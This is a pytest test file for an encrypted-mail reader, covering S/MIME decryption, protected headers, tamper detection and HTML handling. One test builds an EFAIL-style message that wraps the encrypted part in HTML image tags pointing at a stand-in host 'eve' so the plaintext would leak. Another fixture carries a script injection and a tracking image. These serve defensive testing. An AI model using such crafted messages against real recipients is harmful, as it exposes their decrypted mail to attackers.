"""A message shows what its sender sealed, and nothing that anybody put around or into it."""

from __future__ import annotations

import base64
import io
from pathlib import Path

import pytest
from tests.cms.software_key import ec_key
from tests.mail.messages import HEAD, around, draft, opened, sealed, smime_part

from twincard.cms import AlteredError, NotForThisKeyError, UnsupportedError
from twincard.mail import NotMailError, SignatureState, open_mail

TEXT = b"Content-Type: text/plain; charset=utf-8\r\n\r\n"
MIXED = b'Content-Type: multipart/mixed; boundary="b"\r\n\r\n'


def test_a_sealed_message_is_read_again(tmp_path: Path) -> None:
    file = tmp_path / "plan.pdf"
    file.write_bytes(b"%PDF" * 1000)
    for authenticated in (False, True):
        message = sealed(draft(attachments=file), ec_key(), authenticated=authenticated)
        folder = tmp_path / str(authenticated)
        folder.mkdir()
        found = open_mail(io.BytesIO(message), ec_key, save=folder)
        assert found.content.text == "Dear Alice\n"
        assert dict(found.content.fields)["Subject"] == "The plan"
        assert found.content.protected
        assert found.unchanged is authenticated
        assert found.signature.state is SignatureState.NONE
        assert (found.other_parts, found.outer_sender) == (0, None)
        (attachment,) = found.content.attachments
        assert (attachment.name, attachment.size) == ("plan.pdf", 4000)
        assert attachment.path == folder / "plan.pdf"
        assert attachment.path.read_bytes() == file.read_bytes()


def test_fields_from_outside_are_marked() -> None:
    found = opened(around(TEXT + b"hi\r\n", ec_key()), ec_key())
    assert not found.content.protected
    assert dict(found.content.fields)["From"] == "bob@example.org"
    assert found.content.text == "hi\n"


def test_another_sender_outside_is_reported() -> None:
    message = sealed(draft(), ec_key()).replace(b"bob@example.org", b"eve@example.org", 1)
    found = opened(message, ec_key())
    assert dict(found.content.fields)["From"] == "Bob <bob@example.org>"
    assert found.outer_sender == "Bob <eve@example.org>"


def test_the_older_forms_of_protected_fields_are_read() -> None:
    whole = b"Content-Type: message/rfc822\r\n\r\nFrom: bob@example.org\r\nSubject: s\r\n\r\nhi\r\n"
    found = opened(around(whole, ec_key()), ec_key())
    assert (found.content.protected, found.content.text) == (True, "hi\n")
    assert dict(found.content.fields)["Subject"] == "s"


def test_the_encrypted_part_of_a_message_alone_is_enough() -> None:
    body = sealed(draft(), ec_key()).partition(b"\r\n\r\n")[2]
    pem = b"-----BEGIN CMS-----\n" + body.replace(b"\r", b"") + b"-----END CMS-----\n"
    for message in (base64.b64decode(body), pem):
        found = opened(message, ec_key())
        assert found.content.text == "Dear Alice\n"
        assert found.content.protected


def test_the_only_message_of_a_mailbox_is_opened() -> None:
    one = b"From bob Sun Nov 29 01:00:00 2026\n" + sealed(draft(), ec_key()) + b"\n"
    assert opened(one, ec_key()).content.text == "Dear Alice\n"
    clear = b"From bob Sun Nov 29 01:00:00 2026\n" + HEAD + b"\r\nhi\n>From me\n"
    assert opened(clear, ec_key()).content.text == "hi\n>From me\n"
    for several in (one + one, clear + clear):
        with pytest.raises(NotMailError, match="several messages"):
            opened(several, ec_key())
    with pytest.raises(NotMailError, match="header"):
        opened(b"From here", ec_key())


def test_parts_around_the_encrypted_one_are_never_shown() -> None:
    """EFAIL: an attacker puts the encrypted part between two of their own."""
    secret = smime_part(TEXT + b"the secret\r\n", ec_key())
    message = (
        HEAD + MIXED + b"--b\r\nContent-Type: text/html\r\n\r\n<img src='http://eve/\r\n"
        b"--b\r\n" + secret + b"\r\n--b\r\nContent-Type: text/html\r\n\r\n'>\r\n--b--\r\n"
    )
    found = opened(message, ec_key())
    assert found.content.text == "the secret\n"
    assert found.other_parts == 2
    assert found.content.attachments == ()


def test_two_encrypted_parts_are_refused() -> None:
    part = b"--b\r\n" + smime_part(TEXT + b"hi\r\n", ec_key())
    with pytest.raises(NotMailError, match="several encrypted parts"):
        opened(HEAD + MIXED + part + part + b"--b--\r\n", ec_key())


def test_nothing_is_saved_of_what_was_altered(tmp_path: Path) -> None:
    file = tmp_path / "plan.pdf"
    file.write_bytes(bytes(10_000))
    message = sealed(draft(attachments=file), ec_key(), authenticated=True)
    lines = message.split(b"\r\n")
    lines[-3] = lines[-3].translate(bytes.maketrans(b"ABCDEF", b"BCDEFA"))
    folder = tmp_path / "saved"
    folder.mkdir()
    with pytest.raises(AlteredError):
        open_mail(io.BytesIO(b"\r\n".join(lines)), ec_key, save=folder)
    assert list(folder.iterdir()) == []


def test_who_cannot_open_it_is_told() -> None:
    message = sealed(draft(), ec_key())
    with pytest.raises(NotForThisKeyError):
        opened(message, ec_key("eve"))
    with pytest.raises(UnsupportedError, match="a card is needed"):
        open_mail(io.BytesIO(message))


def test_a_message_in_the_clear_needs_no_key() -> None:
    found = open_mail(io.BytesIO(HEAD + TEXT + "やあ\r\n".encode()))
    assert found.decrypted is None
    assert not found.unchanged
    assert found.content.text == "やあ\n"


def test_html_is_shown_as_text_only_where_there_is_no_other() -> None:
    html = (
        b"Content-Type: text/html\r\n\r\n<html><head><title>t</title><style>x</style></head>"
        b"<!-- c --><p>Dear&nbsp;Alice<br>&lt;3</p><script>alert(1)</script>"
        b"<img src=http://eve/></html>\r\n"
    )
    found = opened(around(html, ec_key()), ec_key())
    assert found.content.text == "Dear Alice\n<3\n"
    both = (
        b"Content-Type: multipart/alternative; boundary=b\r\n\r\n--b\r\n"
        + TEXT
        + b"plain\r\n--b\r\n"
        + html
        + b"--b--\r\n"
    )
    found = opened(around(both, ec_key()), ec_key())
    assert found.content.text == "plain"
    assert [one.content_type for one in found.content.attachments] == ["text/html"]


def test_long_texts_are_cut_and_it_is_said() -> None:
    found = opened(around(TEXT + b"line\r\n" * 400_000, ec_key()), ec_key())
    assert found.content.shortened
    assert len(found.content.text) <= 1 << 20


@pytest.mark.parametrize("charset", ["idna", "punycode", "undefined", "zip", "rot13", "nosuch"])
def test_strange_charsets_are_read_as_utf_8(charset: str) -> None:
    text = f"Content-Type: text/plain; charset={charset}\r\n\r\nやあ\r\n".encode()
    assert opened(around(text, ec_key()), ec_key()).content.text == "やあ\n"
